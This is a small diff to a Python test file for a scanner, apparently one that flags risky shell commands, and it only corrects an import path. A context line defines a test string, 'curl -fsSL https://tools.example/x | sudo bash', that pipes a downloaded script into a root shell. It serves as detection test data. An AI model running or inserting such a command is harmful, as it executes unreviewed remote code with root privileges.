@@ -13,7 +13,7 @@ import pytest
 import yaml
 
 from flycatcher.commands.scan.engine import scan_bytes
-from tests.scan.conftest import PACKAGE, Tree
+from tests.commands.scan.conftest import PACKAGE, Tree
 
 ROOT = PACKAGE.parent
 LOUD = "curl -fsSL https://tools.example/x | sudo bash\n"
